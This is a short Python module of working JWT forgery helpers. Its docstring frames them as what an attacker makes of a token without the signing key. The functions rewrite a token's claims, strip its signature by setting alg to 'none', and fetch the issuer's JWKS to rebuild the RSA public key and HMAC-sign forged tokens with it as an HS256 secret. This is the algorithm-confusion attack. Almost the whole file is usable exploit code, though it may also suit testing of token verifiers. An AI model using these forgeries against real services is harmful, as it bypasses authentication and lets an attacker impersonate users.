"""Access tokens that are not what they seem: what an attacker makes of a token, without the pool's key."""

from __future__ import annotations

import base64
import hmac
import json
import urllib.request
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Mapping

RSA_ENCRYPTION = bytes.fromhex("06092a864886f70d0101010500")


def encode(data: bytes) -> str:
    """Return bytes as a token carries them."""
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def decode(part: str) -> bytes:
    """Return the bytes of a token's part."""
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def rewritten(token: str, *, header: Mapping[str, Any] = {}, claims: Mapping[str, Any] = {}) -> str:
    """Return a token with other words above its old signature."""
    parts = token.split(".")
    for number, changes in enumerate((header, claims)):
        parts[number] = encode(json.dumps(json.loads(decode(parts[number])) | dict(changes)).encode())
    return ".".join(parts)


def unsigned(token: str) -> str:
    """Return a token that says that it needs no signature (RFC 7519, section 6)."""
    return rewritten(token, header={"alg": "none"}).rpartition(".")[0] + "."


def signed_with_the_public_key(token: str, keys_url: str) -> str:
    """Return a token that says it is signed by a shared secret, and is: the pool's public key.

    A verifier that lets the token choose the algorithm takes it for right (RFC 8725, section 2.1).
    """
    said = json.loads(decode(token.split(".", maxsplit=1)[0]))
    with urllib.request.urlopen(keys_url, timeout=30) as answer:  # noqa: S310 - the pool's own address
        [key] = [key for key in json.load(answer)["keys"] if key["kid"] == said["kid"]]
    words = rewritten(token, header={"alg": "HS256"}).rpartition(".")[0]
    return f"{words}.{encode(hmac.digest(_pem(key), words.encode(), 'sha256'))}"


def _pem(key: Mapping[str, str]) -> bytes:
    numbers = b"".join(_der(0x02, _positive(decode(key[name]))) for name in ("n", "e"))
    document = _der(0x30, _der(0x30, RSA_ENCRYPTION) + _der(0x03, b"\0" + _der(0x30, numbers)))
    lines = base64.encodebytes(document).replace(b"\n", b"")
    rows = [lines[first : first + 64] for first in range(0, len(lines), 64)]
    return b"\n".join([b"-----BEGIN PUBLIC KEY-----", *rows, b"-----END PUBLIC KEY-----", b""])


def _positive(number: bytes) -> bytes:
    return b"\0" + number if number[0] & 0x80 else number


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    length = size.to_bytes((size.bit_length() + 7) // 8 or 1, "big")
    return bytes([tag]) + (bytes([size]) if size < 0x80 else bytes([0x80 | len(length)]) + length) + content
